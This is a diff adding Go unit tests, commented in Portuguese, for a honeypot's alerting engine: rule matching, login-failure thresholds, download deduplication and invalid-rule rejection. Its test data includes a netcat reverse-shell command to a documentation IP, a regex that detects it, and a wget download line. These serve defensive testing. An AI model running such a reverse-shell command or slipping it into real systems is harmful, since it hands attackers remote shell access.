@@ -0,0 +1,106 @@
+package alerting
+
+import (
+	"testing"
+	"time"
+
+	"myhoneypot/logging"
+)
+
+func TestEngineEvaluate(t *testing.T) {
+	const attacker, other = "203.0.113.9:4000", "198.51.100.2:5000"
+	download := func(ip, sha string) logging.LogEntry {
+		return logging.LogEntry{IP: ip, Type: logging.EventDownload, SHA256: sha}
+	}
+	command := func(ip, line string) logging.LogEntry {
+		return logging.LogEntry{IP: ip, Type: logging.EventCommand, Command: line}
+	}
+	login := func(ip string) logging.LogEntry {
+		return logging.LogEntry{IP: ip, Type: logging.EventFailedLogin}
+	}
+
+	type step struct {
+		at    time.Duration // Desde o início do caso
+		entry logging.LogEntry
+		count int // Count do alerta disparado; 0 = nenhum alerta
+	}
+	tests := []struct {
+		name  string
+		rule  Rule
+		steps []step
+	}{
+		{"tipo de evento", Rule{EventTypes: []string{"file_download"}}, []step{
+			{0, command(attacker, "wget http://x/a"), 0},
+			{time.Second, download(attacker, "aa"), 1},
+		}},
+		{"regex do comando", Rule{EventTypes: []string{"COMMAND_EXECUTED"}, CommandRegex: `nc .*-e `}, []step{
+			{0, command(attacker, "ls -la"), 0},
+			{time.Second, command(attacker, "nc 192.0.2.1 4444 -e /bin/sh"), 1},
+			{2 * time.Second, logging.LogEntry{IP: attacker, Type: logging.EventCommand}, 0},
+		}},
+		{"threshold por IP", Rule{EventTypes: []string{"FAILED_LOGIN"}, Threshold: 3, Window: time.Minute}, []step{
+			{0, login(attacker), 0},
+			{10 * time.Second, login(other), 0},
+			{20 * time.Second, login(attacker), 0},
+			{30 * time.Second, login(attacker), 3},
+			// O contador recomeça depois do disparo
+			{40 * time.Second, login(attacker), 0},
+			{50 * time.Second, login(other), 0},
+		}},
+		{"threshold fora da janela", Rule{EventTypes: []string{"FAILED_LOGIN"}, Threshold: 2, Window: time.Minute}, []step{
+			{0, login(attacker), 0},
+			{2 * time.Minute, login(attacker), 0},
+			{2*time.Minute + 30*time.Second, login(attacker), 2},
+		}},
+		{"deduplicação por artefato", Rule{EventTypes: []string{"FILE_DOWNLOAD"}, DedupWindow: 10 * time.Minute}, []step{
+			{0, download(attacker, "aa"), 1},
+			{time.Minute, download(attacker, "aa"), 0},
+			{2 * time.Minute, download(attacker, "bb"), 1},
+			{3 * time.Minute, download(other, "aa"), 1},
+			{11 * time.Minute, download(attacker, "aa"), 1},
+		}},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			test.rule.Name = "rule"
+			test.rule.Webhooks = []string{"hook"}
+			engine, err := NewEngine(&Config{
+				Rules:    []Rule{test.rule},
+				Webhooks: []WebhookConfig{{Name: "hook", URL: "http://127.0.0.1:1/"}},
+			})
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer engine.Close()
+
+			start := time.Now()
+			for i, step := range test.steps {
+				alerts := engine.evaluate(step.entry, start.Add(step.at))
+				switch {
+				case step.count == 0 && len(alerts) != 0:
+					t.Errorf("passo %d: alerta inesperado %+v", i, alerts)
+				case step.count != 0 && len(alerts) != 1:
+					t.Errorf("passo %d: %d alertas, esperado 1", i, len(alerts))
+				case step.count != 0 && (alerts[0].Count != step.count || alerts[0].SourceIP != sourceIP(step.entry.IP)):
+					t.Errorf("passo %d: alerta %+v, esperado Count %d", i, alerts[0], step.count)
+				}
+			}
+		})
+	}
+}
+
+func TestEngineRejectsInvalidRules(t *testing.T) {
+	webhooks := []WebhookConfig{{Name: "hook", URL: "http://127.0.0.1:1/"}}
+	for _, rule := range []Rule{
+		{Webhooks: []string{"hook"}},
+		{Name: "sem webhook"},
+		{Name: "webhook desconhecido", Webhooks: []string{"nope"}},
+		{Name: "sem janela", Webhooks: []string{"hook"}, Threshold: 5},
+		{Name: "regex inválida", Webhooks: []string{"hook"}, CommandRegex: "("},
+	} {
+		if engine, err := NewEngine(&Config{Rules: []Rule{rule}, Webhooks: webhooks}); err == nil {
+			engine.Close()
+			t.Errorf("regra %+v aceita", rule)
+		}
+	}
+}